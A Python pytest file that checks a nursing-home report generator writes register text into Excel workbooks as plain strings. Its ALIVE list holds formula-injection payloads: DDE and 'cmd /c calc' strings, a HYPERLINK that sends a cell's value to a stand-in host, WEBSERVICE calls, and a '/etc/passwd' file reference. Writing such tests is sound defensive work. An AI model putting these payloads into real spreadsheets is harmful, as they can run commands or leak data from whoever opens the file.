"""Whatever stands in a register stands in a workbook as it was typed: never a formula or a number."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from nursinghome.reports.xlsx import Column, Line, Sheet, workbook

ALIVE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1",
    " =1+1",
    "　=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    '=HYPERLINK("http://x.invalid?"&A1,"看")',
    '=WEBSERVICE("http://x.invalid")',
    '=IMPORTXML("http://x.invalid","//a")',
    '=DDE("cmd","/c calc","x")',
    '=DDEAUTO("cmd","/c calc")',
    "-2+3+cmd|'/c calc'!D2",
    "%0A=1+1",
    "%09=1+1",
    ";=1+1",
    ",=1+1",
    "1;=1+1",
    "姓名\n=1+1",
    "\n=1+1",
    "\t=1+1",
    "=\t1+1",
    "=1+1\n",
    "{=1+1}",
    "=A1",
    "=$A$1",
    "=Sheet1!A1",
    "=SUM(A:A)",
    '=INDIRECT("A1")',
    '=EXEC("calc")',
    '=REGISTER.ID("a","b")',
    "file:///etc/passwd",
    "http://x.invalid",
    "mailto:x@x.invalid",
    "internal:Sheet1!A1",
)
PLAIN = (
    "-5",
    "+8613800000000",
    "500236194003029997",
    "50023619400302999X",
    "0012",
    "1-2",
    "1E5",
    "1/2",
    "TRUE",
    "2026-11-22",
    "-",
    "00:30",
)


def told(words: str) -> Sheet:
    return Sheet(
        title="名册",
        period=words,
        left=words,
        right=words,
        columns=(
            Column(head=words, width=20),
            Column(head="中", width=20, kind="middle"),
            Column(head="数", width=20, kind="number"),
        ),
        lines=(Line(cells=(words, words, words)),),
        signatures=(words,),
        notes=(words,),
        day=date(2026, 11, 22),
    )


@pytest.mark.parametrize("words", [*ALIVE, *PLAIN])
def test_words_stay_words(words: str) -> None:
    page = openpyxl.load_workbook(io.BytesIO(workbook(told(words)))).active
    assert page is not None
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells].count(words) == 9
    assert not [cell for cell in cells if cell.hyperlink]
    assert {cell.number_format for cell in page[5][:2]} == {"@"}
